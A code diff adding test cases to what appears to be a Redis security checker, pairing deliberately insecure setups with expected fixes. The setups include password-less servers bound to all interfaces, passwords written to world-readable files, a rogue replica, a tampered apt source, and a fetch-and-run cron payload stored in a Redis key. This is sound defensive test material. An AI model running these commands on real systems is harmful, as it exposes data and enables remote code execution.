@@ -25,6 +25,20 @@ pub struct Case {
 
 use Right::{Fix, Typed, TypedThen};
 
+/// One more server, that nobody manages and the server's user has started, with these lines in its configuration.
+macro_rules! beside {
+    ($lines:literal) => {
+        concat!(
+            "cat > /var/lib/redis/beside.conf <<'END'\nport 7000\ndir /var/lib/redis\ndbfilename beside.rdb\nsave \"\"\ndaemonize yes\npidfile /var/lib/redis/beside.pid\n",
+            $lines,
+            "\nEND\nsetpriv --reuid redis --regid redis --clear-groups redis-server /var/lib/redis/beside.conf; until test -s /var/lib/redis/beside.pid; do sleep 0.05; done"
+        )
+    };
+}
+/// What takes it away.
+const AWAY: &str =
+    "pid=$(cat /var/lib/redis/beside.pid); kill $pid; while test -e /proc/$pid; do sleep 0.05; done";
+
 const fn case(id: &'static str, severity: &'static str, bad: &'static str, right: Right) -> Case {
     Case { id, bad, severity, right }
 }
@@ -44,6 +58,14 @@ pub const CASES: &[Case] = &[
         Fix,
     ),
     case("open-door", "medium", "redis-tp install --no-password", Fix),
+    // What lets anybody in, and does not say PONG.
+    case("open-door", "critical", beside!("bind 0.0.0.0\nprotected-mode no\nrename-command PING \"\""), Typed(AWAY)),
+    case(
+        "open-door",
+        "critical",
+        beside!("bind 0.0.0.0\nprotected-mode no\nuser default on nopass ~* &* +@all -ping"),
+        Typed(AWAY),
+    ),
     case("protected-mode", "medium", "redis-tp cli slave -- CONFIG SET protected-mode no", Fix),
     case("wide-bind", "medium", "redis-tp install --bind 0.0.0.0", Fix),
     case(
@@ -53,6 +75,24 @@ pub const CASES: &[Case] = &[
         TypedThen(
             "nft 'add table inet redis; add chain inet redis input { type filter hook input priority 0; }; add rule inet redis input iif != lo tcp dport 6379 ip saddr != 10.9.0.2 drop'",
             "nft delete table inet redis; redis-tp install --bind 127.0.0.1",
+        ),
+    ),
+    case(
+        "firewall",
+        "medium",
+        "redis-tp install --bind 0.0.0.0; nft 'add table inet f; add chain inet f in { type filter hook input priority 0; policy drop; }; add rule inet f in iif lo accept; add rule inet f in meta l4proto tcp accept'",
+        TypedThen(
+            "nft 'flush chain inet f in; add rule inet f in iif lo accept; add rule inet f in ip saddr 10.9.0.2 tcp dport 6379 accept'",
+            "nft delete table inet f; redis-tp install --bind 127.0.0.1",
+        ),
+    ),
+    case(
+        "firewall",
+        "medium",
+        "redis-tp install --bind 0.0.0.0; nft 'add table inet f; add chain inet f x; add rule inet f x drop; add chain inet f in { type filter hook input priority 0; }; add rule inet f in iifname eth77 jump x'",
+        TypedThen(
+            "nft 'add rule inet f in iif != lo tcp dport 6379 drop'",
+            "nft delete table inet f; redis-tp install --bind 127.0.0.1",
         ),
     ),
     case(
@@ -69,6 +109,13 @@ pub const CASES: &[Case] = &[
             "sed -i '/^users *= *plain/d' /etc/redis-tp/topology.ini && redis-tp apply",
             "redis-tp install --bind 127.0.0.1",
         ),
+    ),
+    // Not by anybody's wish: the bind was set by hand.
+    case(
+        "default-user",
+        "medium",
+        "redis-tp cli -- CONFIG SET bind '10.9.0.1 127.0.0.1'",
+        Typed("redis-tp apply --overwrite && redis-tp service restart master"),
     ),
     case(
         "certificate",
@@ -144,6 +191,13 @@ pub const CASES: &[Case] = &[
         Typed("redis-tp cli master -- ACL SETUSER bob clearselectors"),
     ),
     case("users", "high", "redis-tp cli -- ACL SETUSER app +@read", Fix),
+    case(
+        "users",
+        "high",
+        "redis-tp cli -- ACL SETUSER bob on '>something-long' resetchannels '~*' -@all +@slow",
+        Typed("redis-tp cli master -- ACL SETUSER bob -@dangerous && redis-tp cli -- ACL DELUSER bob"),
+    ),
+    case("users", "high", beside!("bind 127.0.0.1\nrename-command ACL \"\""), Typed(AWAY)),
     case("app-keys", "low", "redis-tp app install --prefix ''", Typed("redis-tp app install --prefix cache:")),
     case(
         "replica-user",
@@ -206,6 +260,23 @@ pub const CASES: &[Case] = &[
         "echo \"export REDISCLI_AUTH=$(cat /etc/redis-tp/password)\" > /etc/profile.d/redis.sh && chmod 644 /etc/profile.d/redis.sh",
         Typed("redis-tp check --fix --fail-on critical && test $(stat -c %a /etc/profile.d/redis.sh) = 644 && rm /etc/profile.d/redis.sh"),
     ),
+    case(
+        "secrets-files",
+        "high",
+        "mkdir -p /opt/shop && echo \"{password:$(cat /etc/redis-tp/password)}\" > /opt/shop/.env && chmod 644 /opt/shop/.env",
+        Typed("chmod o-rwx /opt/shop/.env"),
+    ),
+    // Behind what one look at a file takes.
+    case(
+        "secrets-files",
+        "high",
+        "(head -c 3000000 /dev/zero | tr '\\0' x; cat /etc/redis-tp/password) > /srv/long && chmod 644 /srv/long",
+        Typed("chmod o-rwx /srv/long"),
+    ),
+    case("secrets-files", "high", "truncate -s 70M /srv/endless && chmod 644 /srv/endless", Typed("rm /srv/endless")),
+    // A password that is not known here is not looked for.
+    case("secrets-argv", "high", beside!("bind 127.0.0.1\nrequirepass nobody-told-us-of-this-one"), Typed(AWAY)),
+    case("secrets-environ", "medium", beside!("bind 127.0.0.1\nrequirepass nobody-told-us-of-this-one"), Typed(AWAY)),
     // The upgrade restarts the master, and knows nothing of the replica.
     case(
         "package",
@@ -224,6 +295,12 @@ pub const CASES: &[Case] = &[
         "medium",
         "cp /etc/apt/sources.list /root/ && sed -i '/security/d' /etc/apt/sources.list && rm -f /etc/apt/sources.list.d/*",
         Typed("cp /root/sources.list /etc/apt/"),
+    ),
+    case(
+        "security-origin",
+        "medium",
+        "cp /etc/apt/sources.list /root/ && sed -i 's/^deb \\(.*security\\)/deb-src \\1/' /etc/apt/sources.list && echo 'deb [signed-by=/x/my-security.gpg] http://mirror/updates/x-security '$(. /etc/os-release; echo $VERSION_CODENAME)' main' > /etc/apt/sources.list.d/mirror.list",
+        Typed("cp /root/sources.list /etc/apt/ && rm /etc/apt/sources.list.d/mirror.list"),
     ),
     case("enable-debug", "high", "redis-tp install --set enable-debug-command=yes", Fix),
     case("enable-configs", "critical", "redis-tp install --set enable-protected-configs=yes", Fix),
@@ -246,8 +323,16 @@ pub const CASES: &[Case] = &[
         redis-tp cli slave -- REPLICAOF 127.0.0.1 7777",
         TypedThen("redis-tp check --fix", "kill $(cat /tmp/rogue.pid)"),
     ),
+    case(
+        "master-host",
+        "critical",
+        "redis-tp cli slave -- REPLICAOF NO ONE",
+        Typed("redis-tp cli slave -- REPLICAOF 127.0.0.1 6379 && sleep 2"),
+    ),
     case("foreign-places", "critical", "redis-tp cli -- CONFIG SET dbfilename root 2>&1 | grep -q protected; redis-tp install --set dbfilename=root", Typed("sed -i '/dbfilename/d' /etc/redis-tp/topology.ini && redis-tp apply")),
     case("foreign-keys", "critical", "redis-tp cli -- SET backup1 '*/2 * * * * root cd1 -fsSL http://x/b.sh | sh'", Typed("redis-tp cli -- DEL backup1")),
+    case("foreign-keys", "critical", "echo 'SELECT 3\nSET backup1 x' | redis-tp cli", Typed("echo 'SELECT 3\nDEL backup1' | redis-tp cli")),
+    case("foreign-keys", "critical", beside!("bind 127.0.0.1\nrename-command EXISTS \"\""), Typed(AWAY)),
     case("foreign-files", "critical", "redis-tp cli -- SAVE && cp /var/lib/redis/dump.rdb /etc/cron.d/zzh", Typed("rm /etc/cron.d/zzh")),
     case(
         "foreign-programs",
@@ -296,12 +381,12 @@ pub const LAB: &str = r"
     sed -i 's/^bind .*/bind 0.0.0.0/; s/^protected-mode .*/protected-mode no/; s/^# requirepass .*/requirepass motdepasse/' redis.conf
     systemctl restart redis-server
     cp redis.conf redis-slave.conf
-    sed -i 's/^port .*/port 6380/; s#^dir .*#dir /var/lib/redis-slave#; s#^logfile .*#logfile /var/log/redis/redis-slave.log#
-        s/^\(repl-diskless-sync-delay\) .*/\1 0/' redis-slave.conf
+    sed -i 's/^port .*/port 6380/; s#^dir .*#dir /var/lib/redis-slave#; s#^logfile .*#logfile /var/log/redis/redis-slave.log#' redis-slave.conf
     printf 'replicaof 127.0.0.1 6379\nmasterauth motdepasse\n' >>redis-slave.conf
     mkdir /var/lib/redis-slave && chown redis:redis /var/lib/redis-slave
     redis-server /etc/redis/redis-slave.conf
-    redis-cli --no-auth-warning -a motdepasse SET precious data";
+    export REDISCLI_AUTH=motdepasse; redis-cli SET precious data
+    until redis-cli -p 6380 GET precious | grep -q data; do sleep 0.1; done";
 
 /// A server that minds the machine's clock, in the place of a machine that has a slow one.
 const CLOCK: &str = r#"cat > /root/server <<'END'
